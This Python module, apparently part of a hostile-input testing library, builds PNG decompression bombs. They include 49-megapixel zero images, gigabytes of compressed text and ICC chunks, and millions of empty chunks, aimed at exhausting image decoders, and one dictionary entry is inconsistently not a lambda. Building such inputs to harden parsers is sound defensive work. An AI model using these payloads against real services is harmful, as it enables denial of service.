"""PNG files of which a few bytes unpack to very many, or take very long."""

from hostile.making import Maker, zeros
from hostile.pngs import chunk, header, pixels, png, with_chunks


def flat(bits: int, colour: int, interlace: int = 0, side: int = 7000) -> bytes:
    """49 megapixels of nothing."""
    channels = {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[colour]
    row = side * channels * bits // 8 + 1
    # Seven passes have some more rows, each of which begins with its filter.
    size = row * side if not interlace else row * side + 4 * side
    palette = [chunk(b"PLTE", bytes(768))] if colour == 3 else []
    return png(
        header(side, side, bits, colour, 0, 0, interlace), *palette, chunk(b"IDAT", zeros(size))
    )


def text(kind: bytes) -> bytes:
    prefix = {b"zTXt": b"key\0\0", b"iTXt": b"key\0\1\0\0\0", b"iCCP": b"icc\0\0"}[kind]
    return chunk(kind, prefix + zeros(100_000_000))


PNG_BOMBS: dict[str, Maker] = {
    "49 megapixels of one bit": lambda: flat(1, 0),
    "49 megapixels of grey": lambda: flat(8, 0),
    "49 megapixels of deep grey": lambda: flat(16, 0),
    "49 megapixels of grey and alpha": lambda: flat(8, 4),
    "49 megapixels of a palette": lambda: flat(8, 3),
    "49 megapixels of colour": lambda: flat(8, 2),
    "49 megapixels of deep colour": lambda: flat(16, 2),
    "49 megapixels of colour and alpha": lambda: flat(8, 6),
    "49 megapixels of deep colour and alpha": lambda: flat(16, 6),
    "49 megapixels interlaced": lambda: flat(8, 2, interlace=1),
    "100 megabytes behind a pixel": lambda: png(header(1, 1), chunk(b"IDAT", zeros(100_000_000))),
    "100 megabytes of pixels declared 60000 x 60000": lambda: png(
        header(60_000, 60_000), chunk(b"IDAT", zeros(100_000_000))
    ),
    **{
        f"100 megabytes of {kind.decode()}": (lambda kind=kind: with_chunks(text(kind)))
        for kind in (b"zTXt", b"iTXt", b"iCCP")
    },
    "4 gigabytes of zTXt": lambda: with_chunks(*[text(b"zTXt")] * 40),
    "4 gigabytes of iCCP": lambda: with_chunks(*[text(b"iCCP")] * 40),
    "nineteen megabytes of text": lambda: with_chunks(
        *[chunk(b"tEXt", b"key\0" + b"x" * 1_000_000)] * 19
    ),
    "text full of zero bytes": with_chunks(chunk(b"tEXt", bytes(500_000))),
    "30000 texts": lambda: with_chunks(
        *(chunk(b"tEXt", b"%d\0x" % number) for number in range(30_000))
    ),
    "1.6 million empty chunks": lambda: with_chunks(chunk(b"prVt") * 1_600_000),
    "40000 empty chunks": lambda: with_chunks(chunk(b"prVt") * 40_000),
    "1.6 million empty pixel chunks": lambda: png(
        header(), chunk(b"IDAT") * 1_600_000, pixels(8, 24)
    ),
    "40000 empty pixel chunks": lambda: png(header(), chunk(b"IDAT") * 40_000, pixels(8, 24)),
    "1.6 million chunks behind the pixels": lambda: png(
        header(), pixels(8, 24), chunk(b"prVt") * 1_600_000
    ),
}
